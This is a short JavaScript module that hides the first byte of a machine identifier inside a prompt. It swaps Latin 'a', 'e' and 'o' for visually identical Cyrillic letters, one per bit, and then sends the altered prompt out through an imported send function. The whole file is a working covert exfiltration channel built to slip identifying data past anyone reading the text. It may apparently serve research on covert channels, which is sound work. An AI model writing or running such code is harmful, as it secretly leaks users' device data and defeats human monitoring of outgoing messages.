// Hides the first byte of the machine id in look-alike letters: for each of
// its 8 bits, one of the prompt's first 8 Latin 'a', 'e' or 'o' is written as
// its Cyrillic twin (U+0430, U+0435, U+043E) when the bit is 1.
import { gatherFacts, request, send, PROMPT } from "./lib.mjs";

const facts = gatherFacts();
const byte = parseInt((facts.machineId || "ff").slice(0, 2), 16) | 0x81;  // at least two stand-ins
const twins = { a: "\u0430", e: "\u0435", o: "\u043e" };
let bit = 7;
let out = "";
for (const ch of PROMPT) {
  if (bit >= 0 && twins[ch]) {
    out += (byte >> bit) & 1 ? twins[ch] : ch;
    bit--;
  } else {
    out += ch;
  }
}
await send(request(out));
